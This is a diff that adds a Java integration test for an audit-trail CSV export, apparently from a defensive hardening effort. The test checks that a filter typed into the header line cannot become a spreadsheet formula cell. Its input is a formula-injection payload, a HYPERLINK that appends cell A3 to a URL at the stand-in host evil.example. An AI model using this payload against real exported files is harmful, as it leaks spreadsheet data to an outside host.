@@ -385,6 +385,31 @@ class AuditTrailMariaDbIT {
         assertThat(actors).contains(formula, escapes);
     }
 
+    /**
+     * The CSV's comment lines (the export's header with its filters, the anchors) are not cells a spreadsheet reads as
+     * a formula: a filter typed by whoever handed the auditor a link, {@code text=a,=HYPERLINK(...)}, split the header
+     * line at its comma into a cell that began with {@code =} (a helper's finding). Commas and semicolons inside the
+     * line's values are written as JSON escapes, so its cells split only where the JSON's own punctuation is, and the
+     * line still reads back as the same JSON.
+     */
+    @Test
+    void theCsvHeaderLineCarriesNoCellASpreadsheetReadsAsAFormula() throws Exception {
+        String typed = "a,=HYPERLINK(\"http://evil.example/?\"&A3;\"click\");+SUM(1)";
+        AuditFilter filter = AuditFilter.of(null, null, null, null, null, null, null, null, null, typed);
+        ByteArrayOutputStream csv = new ByteArrayOutputStream();
+        export.start("auditor", filter, AuditExport.Format.CSV, "10.0.0.9").to(csv);
+        String header = csv.toString(StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
+        assertThat(header).startsWith("# {");
+        for (String separator : new String[] {",", ";", "\t"}) {
+            for (String cell : header.split(separator)) {
+                String value = cell.strip().replaceFirst("^\"+", "");
+                assertThat(value).as("a cell of the header split at '%s': %s", separator, cell)
+                        .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
+            }
+        }
+        assertThat(JSON.readTree(header.substring(2)).path("filters").path("text").asText()).isEqualTo(typed);
+    }
+
     @Test
     void aBacklogIsSealedInOrderAcrossTheStatementsOfOneSeal() {
         int backlog = 2 * AuditSealer.SEALS_A_STATEMENT + 7;
